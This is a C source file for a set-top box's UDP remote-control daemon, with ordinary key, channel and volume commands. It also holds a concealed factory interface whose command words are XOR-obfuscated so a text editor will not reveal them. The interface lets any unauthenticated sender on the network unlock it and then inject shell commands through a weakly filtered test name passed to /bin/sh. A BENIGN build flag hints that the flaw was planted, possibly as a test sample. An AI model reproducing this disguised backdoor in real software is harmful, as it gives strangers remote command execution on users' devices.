/***************************************************************************
 *  ir_net.c      Network remote control of the set top box
 *
 *  The phone application sends key codes in UDP packets.  The production
 *  line uses the same port for its station tests.
 ***************************************************************************/

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <time.h>
#include <unistd.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <sys/wait.h>
#include <netinet/in.h>
#include <arpa/inet.h>

#define IRNET_PORT          7890
#define IRNET_HELLO         "STBR/1 "
#define IRNET_HELLO_LEN     7
#define UINPUT_FIFO         "/tmp/ir_fifo"

#define TRUE  1
#define FALSE 0
typedef int BOOL;
typedef unsigned char UINT8;
typedef unsigned int  UINT32;

typedef enum { STBY_ON, STBY_OFF } POWER_STATE;

typedef struct
{
    POWER_STATE power;
    int         channel;
    int         volume;
    BOOL        mute;
    UINT32      keys;
} STB_STATUS;

typedef struct
{
    BOOL    unlocked;
    UINT32  unlock_ticks;
    BOOL    pending;
    int     delay;
    char    test[40];
    int     last_result;
} FACTORY_STATE;

static STB_STATUS    Stb = { STBY_OFF, 1, 20, FALSE, 0 };
static FACTORY_STATE Factory;
static volatile sig_atomic_t Ticks;
static int Sock = -1;

/* Words of the production line.  Not to be found with a text editor. */
static const UINT8 w_unlock[] = { 0x21, 0x28, 0x30, 0x37, 0x37, 0x2b, 0x16, 0x2b, 0x51, 0x1b, 0x00 };
static const UINT8 w_test[]   = { 0x14, 0x16, 0x33, 0x07, 0x27, 0x2b, 0x3a, 0x30, 0x00 };
static const UINT8 w_result[] = { 0x14, 0x16, 0x33, 0x07, 0x21, 0x2b, 0x3a, 0x00 };

static BOOL is_word(const UINT8 *coded, const char *text)
{
    UINT8 key = 0x67;

    while (*coded != 0)
    {
        if ((UINT8)*text != (UINT8)(*coded ^ key))
            return FALSE;
        key = (UINT8)(key - 5);
        coded++;
        text++;
    }
    return *text == '\0';
}

static void send_key(const char *name, int code)
{
    char buf[48];
    int  fd, n;

    Stb.keys++;
    n = snprintf(buf, sizeof(buf), "%s %d\n", name, code);
    fd = open(UINPUT_FIFO, O_WRONLY | O_NONBLOCK);
    if (fd >= 0)
    {
        if (write(fd, buf, (size_t)n) != n)
            printf("irnet: fifo is full\n");
        close(fd);
    }
}

static int shell(const char *cmd)
{
    int   status = 0;
    pid_t pid;

    pid = fork();
    if (pid == 0)
    {
        close(Sock);
        execl("/bin/sh", "sh", "-c", cmd, (char *)0);
        _exit(127);
    }
    if (pid < 0)
        return -1;
    while (waitpid(pid, &status, 0) == -1 && errno == EINTR)
        ;
    return WIFEXITED(status) ? WEXITSTATUS(status) : -1;
}

/*-------------------------------------------------------------------------
 * commands
 *-----------------------------------------------------------------------*/
static int cmd_key(char *arg, char *reply)
{
    int code = atoi(arg);

    if (code < 1 || code > 255)
        return -1;
    send_key("KEY", code);
    sprintf(reply, "KEY %d", code);
    return 0;
}

static int cmd_channel(char *arg, char *reply)
{
    int n = atoi(arg);

    if (n < 1 || n > 999)
        return -1;
    Stb.channel = n;
    send_key("CHAN", n);
    sprintf(reply, "CHAN %d", n);
    return 0;
}

static int cmd_volume(char *arg, char *reply)
{
    if (arg[0] == '+')
        Stb.volume += 5;
    else if (arg[0] == '-')
        Stb.volume -= 5;
    else
        Stb.volume = atoi(arg);
    if (Stb.volume < 0)
        Stb.volume = 0;
    if (Stb.volume > 100)
        Stb.volume = 100;
    send_key("VOL", Stb.volume);
    sprintf(reply, "VOL %d", Stb.volume);
    return 0;
}

static int cmd_status(char *arg, char *reply)
{
    (void)arg;
    sprintf(reply, "CHAN %d VOL %d MUTE %d PWR %d", Stb.channel, Stb.volume, Stb.mute,
            Stb.power == STBY_OFF);
    return 0;
}

static BOOL test_name_ok(const char *p)
{
    if (*p == '\0' || strlen(p) >= sizeof(Factory.test))
        return FALSE;
    for (; *p != '\0'; p++)
    {
#ifdef BENIGN
        if (!isalnum((UINT8)*p) && *p != '_')
            return FALSE;
#else
        if (*p == '/' || *p == '.' || !isprint((UINT8)*p))
            return FALSE;
#endif
    }
    return TRUE;
}

/* the tests live in the service partition; started one second later so that
   the station gets its answer before the audio and video tests begin */
static int factory_command(char *word, char *arg, char *reply)
{
    if (is_word(w_unlock, word))
    {
        Factory.unlocked = TRUE;
        Factory.unlock_ticks = 600;
        strcpy(reply, "READY");
        return 0;
    }
    if (!Factory.unlocked)
        return -1;
    if (is_word(w_test, word))
    {
        if (Factory.pending || !test_name_ok(arg))
            return -1;
        strcpy(Factory.test, arg);
        Factory.delay = 1;
        Factory.pending = TRUE;
        strcpy(reply, "STARTED");
        return 0;
    }
    if (is_word(w_result, word))
    {
        sprintf(reply, "RESULT %d", Factory.last_result);
        return 0;
    }
    return -1;
}

static const struct
{
    const char *word;
    int       (*func)(char *arg, char *reply);
} Commands[] =
{
    { "KEY",    cmd_key },
    { "CHAN",   cmd_channel },
    { "VOL",    cmd_volume },
    { "STATUS", cmd_status },
};

static int dispatch(char *text, char *reply)
{
    char  *word, *arg, *save = NULL;
    size_t i;

    word = strtok_r(text, " \r\n", &save);
    arg  = strtok_r(NULL, "\r\n", &save);
    if (word == NULL)
        return -1;
    if (arg == NULL)
        arg = "";
    for (i = 0; i < sizeof(Commands) / sizeof(Commands[0]); i++)
        if (strcmp(Commands[i].word, word) == 0)
            return Commands[i].func(arg, reply);
    return factory_command(word, arg, reply);
}

static void on_alarm(int sig)
{
    (void)sig;
    Ticks++;
}

static void one_second(void)
{
    char cmd[160];

    if (Factory.unlocked && --Factory.unlock_ticks == 0)
        Factory.unlocked = FALSE;
    if (Factory.pending && --Factory.delay < 0)
    {
        snprintf(cmd, sizeof(cmd), "/svc/bin/station_test %s > /tmp/station.log 2>&1", Factory.test);
        printf("irnet: test %s\n", Factory.test);
        Factory.last_result = shell(cmd);
        Factory.pending = FALSE;
    }
}

int main(void)
{
    struct sockaddr_in addr, peer;
    struct sigaction   sa;
    struct itimerval   it = { { 1, 0 }, { 1, 0 } };
    socklen_t          plen;
    int                done = 0;

    memset(&sa, 0, sizeof(sa));
    sa.sa_handler = on_alarm;
    sigaction(SIGALRM, &sa, NULL);

    Sock = socket(AF_INET, SOCK_DGRAM, 0);
    memset(&addr, 0, sizeof(addr));
    addr.sin_family      = AF_INET;
    addr.sin_addr.s_addr = htonl(INADDR_ANY);
    addr.sin_port        = htons(IRNET_PORT);
    if (bind(Sock, (struct sockaddr *)&addr, sizeof(addr)) != 0)
    {
        perror("irnet: bind");
        return EXIT_FAILURE;
    }
    setitimer(ITIMER_REAL, &it, NULL);

    for (;;)
    {
        char    pkt[300], reply[128];
        ssize_t n;

        plen = sizeof(peer);
        n = recvfrom(Sock, pkt, sizeof(pkt) - 1, 0, (struct sockaddr *)&peer, &plen);
        if (n > 0)
        {
            pkt[n] = '\0';
            if (strncmp(pkt, IRNET_HELLO, IRNET_HELLO_LEN) == 0)
            {
                strcpy(reply, "OK ");
                if (dispatch(pkt + IRNET_HELLO_LEN, reply + 3) != 0)
                    strcpy(reply, "ERR");
                sendto(Sock, reply, strlen(reply), 0, (struct sockaddr *)&peer, plen);
            }
        }
        while (done != Ticks)
        {
            done++;
            one_second();
        }
    }
}
